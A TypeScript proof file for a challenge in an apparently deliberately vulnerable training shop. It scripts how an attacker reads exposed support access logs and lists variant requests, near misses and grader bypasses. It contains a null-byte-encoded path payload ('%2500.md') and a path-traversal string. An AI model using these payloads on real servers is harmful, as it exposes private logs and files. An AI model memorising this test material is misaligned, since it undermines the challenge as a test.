import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const FOLDER = '/support/logs'

/** Returns the name of a log file from the folder's listing. The first request of a visitor creates one. */
async function nameIn(attacker: Attacker, accept = 'application/json'): Promise<string> {
  await attacker.get('/robots.txt')
  const { text } = await attacker.get(FOLDER, { headers: { accept } })
  return /access\.log\.[\d-]+/.exec(text)?.[0] ?? 'access.log'
}

const read = (attacker: Attacker, name: string, headers: Readonly<Record<string, string>> = {}) =>
  attacker.get(`${FOLDER}/${name}`, { headers })

/** Reads today's log. The first request makes sure that it has an entry. */
async function readLatest(attacker: Attacker) {
  await attacker.get('/robots.txt')
  await read(attacker, 'access.log')
}

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // The monitoring rules name the folder that the help desk reads.
    const rules = await attacker.get('/ftp/suspicious_errors.yml%2500.md')
    const [, folder = FOLDER] = /from (\/[\w/]+), one access\.log/.exec(rules.text) ?? []
    const listing = await attacker.get(folder, { headers: { accept: 'text/plain' } })
    await attacker.get(`${folder}/${/access\.log\S*/.exec(listing.text)?.[0]}`)
  },
  spellings: {
    'by the page of the folder': async (attacker) => read(attacker, await nameIn(attacker, 'text/html')),
    'by the list in JSON': async (attacker) => read(attacker, await nameIn(attacker)),
    'the log of the day by its name alone': readLatest,
    'the folder with a slash at its end': async (attacker) => {
      await attacker.get('/robots.txt')
      const { text } = await attacker.get(`${FOLDER}/`)
      await read(attacker, /access\.log\.[\d-]+/.exec(text)?.[0] ?? '')
    },
    'with dots in percent signs': async (attacker) => read(attacker, (await nameIn(attacker)).replaceAll('.', '%2e')),
    'with a letter in percent signs': async (attacker) =>
      read(attacker, (await nameIn(attacker)).replace('access', '%61ccess')),
    'with a query': async (attacker) => read(attacker, `${await nameIn(attacker)}?download=1`),
    'as a browser asks': async (attacker) =>
      read(attacker, await nameIn(attacker), { accept: 'text/html', 'user-agent': 'Mozilla/5.0' }),
    'as a program asks': async (attacker) =>
      read(attacker, await nameIn(attacker), { accept: '*/*', 'user-agent': 'curl/8.5.0' }),
    'signed in': async (attacker) => {
      await attacker.becomeCustomer()
      await read(attacker, await nameIn(attacker))
    },
  },
  nearMisses: {
    'the list of names alone': (attacker) => attacker.get(FOLDER),
    'a log of a day that the shop has not seen': (attacker) => read(attacker, 'access.log.2001-02-03'),
    'another log': (attacker) => read(attacker, 'error.log'),
    'the name in capitals': (attacker) => read(attacker, 'ACCESS.LOG'),
    'the name in the folder above': (attacker) => attacker.get('/support/access.log'),
    'the folder as it is called on the disk': (attacker) => attacker.get('/logs/access.log'),
    'a log in the public folder': (attacker) => attacker.get('/ftp/access.log%2500.md'),
    'a way out of the folder': (attacker) => read(attacker, '..%2f..%2fftp%2flegal.md'),
    'the name as a parameter': (attacker) => attacker.get(`${FOLDER}?file=access.log`),
  },
  bypasses: {
    'hide-the-names': readLatest,
    'ask-for-an-account': async (attacker) => {
      await attacker.becomeCustomer()
      await read(attacker, 'access.log')
    },
  },
})
